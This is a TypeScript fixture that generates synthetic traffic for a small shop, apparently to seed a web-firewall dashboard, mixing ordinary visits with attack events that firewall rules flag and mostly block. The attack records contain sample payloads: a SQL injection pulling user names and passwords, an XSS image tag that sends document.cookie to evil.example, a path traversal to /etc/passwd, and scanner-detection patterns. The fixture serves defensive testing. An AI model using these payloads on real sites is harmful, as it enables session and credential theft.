import type { Event, RequestDetail } from '../../src/events/index.ts';
import { makeMatch, makeRandom, makeRequestEvent } from '../../src/events/example-events.ts';
import type { Match, Verdict } from '../../src/inspect/outcome.ts';
import { makeId } from '../../src/lib/id.ts';

const DAY_MS = 86_400_000;
const HOUR_MS = 3_600_000;

/** A visitor's request, as often as its weight says. */
interface Visit {
  readonly weight: number;
  readonly method: string;
  readonly target: (random: () => number) => string;
  readonly milliseconds: number;
  readonly bytes: number;
}

const pick = <Value>(values: readonly Value[], random: () => number): Value =>
  values[Math.floor(random() * values.length)]!;

const VISITS: readonly Visit[] = [
  { weight: 20, method: 'GET', target: () => '/', milliseconds: 6, bytes: 14_200 },
  {
    weight: 24,
    method: 'GET',
    target: (random) => `/products?category=${pick(['lamps', 'chairs', 'rugs'], random)}`,
    milliseconds: 9,
    bytes: 18_900,
  },
  {
    weight: 30,
    method: 'GET',
    target: (random) => `/products/${1 + Math.floor(random() * 40)}`,
    milliseconds: 7,
    bytes: 11_300,
  },
  {
    weight: 12,
    method: 'GET',
    target: (random) => `/api/search?q=${pick(['oak', 'desk+lamp', 'wool', "o'brien"], random)}`,
    milliseconds: 14,
    bytes: 2100,
  },
  { weight: 6, method: 'POST', target: () => '/api/cart', milliseconds: 11, bytes: 340 },
  { weight: 4, method: 'POST', target: () => '/login', milliseconds: 58, bytes: 410 },
  {
    weight: 4,
    method: 'GET',
    target: () => '/files/catalogue.pdf',
    milliseconds: 41,
    bytes: 981_000,
  },
];

/** An attacker: from where, how often a day, and what is sent. */
interface Attack {
  readonly client: string;
  readonly weight: number;
  readonly userAgent: string;
  readonly method: string;
  readonly target: string;
  readonly verdict: Verdict;
  readonly status: number;
  readonly reason: string;
  readonly matches: readonly Match[];
}

const CRITICAL = { severity: 'critical', score: 5 } as const;
const CURL = 'curl/8.11.1';
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';

const SQL_MATCH = makeMatch({
  ...CRITICAL,
  ruleId: 10200,
  target: 'ARGS:q',
  snippet: "' UNION SELECT name, password FROM users--\u0000\u00a0",
  operator: '@detectSQLi',
  evidence:
    "closes the quoted text and joins a second query with UNION: ' UNION SELECT name, password FROM users",
  message: 'SQL injection',
  logData: 'ARGS:q: sUEn,nkn',
  tags: ['attack-sqli', 'OWASP_TOP_10/A03', 'CAPEC-66', 'CWE-89'],
  location: { file: 'rules/20-injection.conf', line: 4, column: 1 },
});
const XSS_MATCH = makeMatch({
  ...CRITICAL,
  ruleId: 10300,
  target: 'ARGS:comment',
  snippet: '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
  operator: '@detectXSS',
  evidence:
    'the element img onerror calls fetch: <img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
  message: 'Cross-site scripting',
  logData: 'ARGS:comment: img onerror',
  tags: ['attack-xss', 'OWASP_TOP_10/A03', 'CAPEC-63', 'CWE-79'],
  location: { file: 'rules/20-injection.conf', line: 11, column: 1 },
});
const PATH_MATCH = makeMatch({
  ...CRITICAL,
  ruleId: 10400,
  target: 'ARGS:file',
  snippet: '../../../../etc/passwd',
  operator: '@detectPath',
  evidence: 'it climbs 4 level(s) out of its folder: ../../../../etc/passwd',
  message: 'A file name that leads where no visitor is meant to go',
  logData: 'ARGS:file: ../../../../etc/passwd',
  tags: ['attack-lfi', 'OWASP_TOP_10/A01', 'CAPEC-126', 'CWE-22'],
  location: { file: 'rules/20-injection.conf', line: 18, column: 1 },
});
const SCANNER_MATCH = makeMatch({
  ...CRITICAL,
  ruleId: 10110,
  phase: 1,
  target: 'REQUEST_HEADERS:User-Agent',
  snippet: 'sqlmap/1.9.10#stable (https://sqlmap.org)',
  operator: '@pm sqlmap nikto nuclei ...',
  evidence: 'sqlmap',
  message: 'The request names a tool that looks for holes',
  logData: '',
  tags: ['attack-reconnaissance'],
  location: { file: 'rules/10-protocol.conf', line: 21, column: 1 },
});
const FILE_MATCH = makeMatch({
  severity: 'warning',
  score: 3,
  ruleId: 10120,
  phase: 1,
  target: 'REQUEST_FILENAME',
  snippet: '/.env',
  operator: '@rx ^/\\.(?:env|git|svn)',
  evidence: '/.env',
  message: "A file that is nobody's business is asked for",
  logData: '',
  tags: ['attack-disclosure'],
  location: { file: 'rules/10-protocol.conf', line: 30, column: 1 },
});
const DECISION_MATCH = makeMatch({
  severity: 'critical',
  score: 0,
  ruleId: 10901,
  target: 'TX:inbound_anomaly_score',
  snippet: '10',
  operator: '@ge 5',
  evidence: '10',
  message: 'Request refused with 10 points',
  logData: '',
  tags: ['decision'],
  location: { file: 'rules/90-decide.conf', line: 9, column: 1 },
});
const HELPER_MATCH = makeMatch({ ruleId: 10000, message: '', score: 0, logged: false });

const ATTACKS: readonly Attack[] = [
  {
    client: '203.0.113.66',
    weight: 30,
    userAgent: 'sqlmap/1.9.10#stable (https://sqlmap.org)',
    method: 'GET',
    target: '/api/search?q=%27%20UNION%20SELECT%20name%2C%20password%20FROM%20users--%00%C2%A0',
    verdict: 'block',
    status: 403,
    reason: 'rule',
    matches: [SCANNER_MATCH, SQL_MATCH, DECISION_MATCH, HELPER_MATCH],
  },
  {
    client: '198.51.100.23',
    weight: 14,
    userAgent: FIREFOX,
    method: 'POST',
    target: '/products/12/comments',
    verdict: 'block',
    status: 403,
    reason: 'rule',
    matches: [XSS_MATCH, DECISION_MATCH],
  },
  {
    client: '2001:db8:7:1::5a',
    weight: 11,
    userAgent: CURL,
    method: 'GET',
    target: '/files?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd',
    verdict: 'block',
    status: 403,
    reason: 'rule',
    matches: [PATH_MATCH, DECISION_MATCH],
  },
  {
    client: '192.0.2.140',
    weight: 9,
    userAgent: CURL,
    method: 'GET',
    target: '/.env',
    verdict: 'log',
    status: 404,
    reason: 'rule',
    matches: [FILE_MATCH],
  },
  {
    client: '203.0.113.9',
    weight: 7,
    userAgent: 'python-requests/2.32',
    method: 'POST',
    target: '/login',
    verdict: 'block',
    status: 429,
    reason: 'limit.rate',
    matches: [],
  },
  {
    client: '198.51.100.201',
    weight: 3,
    userAgent: '',
    method: 'POST',
    target: '/',
    verdict: 'drop',
    status: 0,
    reason: 'malformed.transfer-encoding',
    matches: [],
  },
];

export interface SeedOptions {
  readonly seed: number;
  /** The newest events are of this moment. */
  readonly now: number;
  readonly days: number;
  readonly visitsPerDay: number;
}

/** Two weeks in the life of a small shop, or less: visitors by day, attackers in waves. */
export function makeShopTraffic({ seed, now, days, visitsPerDay }: SeedOptions): Event[] {
  const random = makeRandom(seed);
  const events: Event[] = [];
  const from = now - days * DAY_MS;
  const count = visitsPerDay * days;
  for (let index = 0; index < count; index++) {
    const time = Math.floor(from + (index / count) * (now - from));
    if (random() > daylight(time)) continue;
    events.push(random() < 0.93 ? makeVisit(time, random) : makeAttack(time, random));
  }
  return events;
}

/** The attack that the pages of a single request are shown with. */
export function makeShownAttack(now: number): Event {
  return makeAttackEvent(ATTACKS[0]!, now, () => 0.5);
}

/** One whose path and whose parameter's name are as long as what is kept of them. */
export function makeLongAttack(now: number): Event {
  const match = { ...XSS_MATCH, target: `ARGS:${'n'.repeat(900)}` };
  const target = `/${'long/'.repeat(400)}`;
  return makeAttackEvent({ ...ATTACKS[1]!, target, matches: [match] }, now, () => 0.5);
}

/** Fewer visitors at night, and not the same number each hour. */
function daylight(time: number): number {
  const hour = (time % DAY_MS) / HOUR_MS;
  return 0.5 + 0.32 * Math.sin(((hour - 7) / 24) * 2 * Math.PI) + 0.15 * Math.sin(time / 4e6);
}

function makeVisit(time: number, random: () => number): Event {
  const visit = pickWeighted(VISITS, random);
  const slow = random() < 0.02 ? 12 : 1;
  const failed = random() < 0.004;
  const inspected = 40 + random() * 120;
  return makeRequestEvent({
    id: makeId(time),
    time,
    subject: {
      client: `192.0.2.${10 + Math.floor(random() * 90)}`,
      site: random() < 0.85 ? 'shop.example.com' : 'blog.example.com',
    },
    detail: {
      method: visit.method,
      target: visit.target(random),
      status: failed ? 502 : random() < 0.02 ? 404 : 200,
      upstreamStatus: failed ? 0 : 200,
      reason: failed ? 'upstream.timeout' : '',
      totalMicroseconds: Math.round(
        visit.milliseconds * 1000 * (0.6 + random()) * slow + inspected,
      ),
      inspectMicroseconds: Math.round(inspected),
      responseBytes: visit.bytes,
      userAgent: FIREFOX,
    },
  });
}

function makeAttack(time: number, random: () => number): Event {
  return makeAttackEvent(pickWeighted(ATTACKS, random), time, random);
}

function makeAttackEvent(attack: Attack, time: number, random: () => number): Event {
  const { client, userAgent, matches, method, target, verdict, status, reason } = attack;
  const score = matches.reduce((sum, match) => sum + match.score, 0);
  const inspected = Math.round(180 + random() * 260);
  const detail: Partial<RequestDetail> = {
    verdict,
    reason,
    method,
    target,
    status,
    upstreamStatus: verdict === 'log' ? status : 0,
    userAgent,
    inboundScore: score,
    inspectMicroseconds: inspected,
    totalMicroseconds: inspected + Math.round(120 + random() * 300),
    requestBytes: 640,
    responseBytes: status === 0 ? 0 : 1180,
    ...(matches.length === 0 ? {} : { matches }),
    headers: [
      ['Host', 'shop.example.com'],
      ['User-Agent', userAgent],
      ['Accept', '*/*'],
      ['Cookie', 'session=***; theme=***'],
      ['Authorization', 'Bearer ***'],
      ['X-Forwarded-For', '10.0.0.7'],
    ],
  };
  return makeRequestEvent({
    id: makeId(time),
    time,
    subject: { client, site: 'shop.example.com', route: '/api/search' },
    detail,
  });
}

function pickWeighted<Item extends { readonly weight: number }>(
  items: readonly Item[],
  random: () => number,
): Item {
  const total = items.reduce((sum, { weight }) => sum + weight, 0);
  let left = random() * total;
  for (const item of items) {
    left -= item.weight;
    if (left <= 0) return item;
  }
  return items.at(-1)!;
}
